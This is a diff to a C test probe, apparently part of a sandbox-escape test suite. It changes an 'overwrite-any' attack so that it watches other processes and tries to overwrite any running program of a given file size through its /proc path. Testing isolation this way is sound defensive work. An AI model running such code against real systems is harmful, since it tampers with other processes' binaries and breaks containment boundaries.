@@ -197,15 +197,13 @@ static int overwrite_exe(const char *pid, const char *seconds)
 	return handle < 0 ? 1 : overwrite(handle, end);
 }
 
-/* overwrite-any SECONDS: of every file that another process runs, but our own. */
-static int overwrite_any(const char *seconds)
+/* overwrite-any SECONDS SIZE: of every program of that size that another process runs. */
+static int overwrite_any(const char *seconds, long long size)
 {
 	time_t end = time(NULL) + atoi(seconds);
-	struct stat own, st;
+	struct stat st;
 	int tried = 0;
 
-	if (stat("/proc/self/exe", &own) < 0)
-		return 1;
 	puts("watching");
 	fflush(stdout);
 	while (time(NULL) < end) {
@@ -221,8 +219,7 @@ static int overwrite_any(const char *seconds)
 			handle = open(path, O_PATH | O_CLOEXEC);
 			if (handle < 0)
 				continue;
-			/* Programs of the image may be overwritten as we like. */
-			if (fstat(handle, &st) == 0 && st.st_dev != own.st_dev && tried++ < 8)
+			if (fstat(handle, &st) == 0 && st.st_size == size && tried++ < 8)
 				overwrite(handle, time(NULL) + 2);
 			close(handle);
 		}
@@ -245,8 +242,8 @@ int probe_attack(int argc, char **argv)
 		return overwrite_exe(argv[1], argv[2]);
 	if (strcmp(argv[0], "overwrite-handle") == 0 && argc == 3)
 		return overwrite(atoi(argv[1]), time(NULL) + atoi(argv[2]));
-	if (strcmp(argv[0], "overwrite-any") == 0 && argc == 2)
-		return overwrite_any(argv[1]);
+	if (strcmp(argv[0], "overwrite-any") == 0 && argc == 3)
+		return overwrite_any(argv[1], atoll(argv[2]));
 	fprintf(stderr, "probe: no such attack\n");
 	return 2;
 }
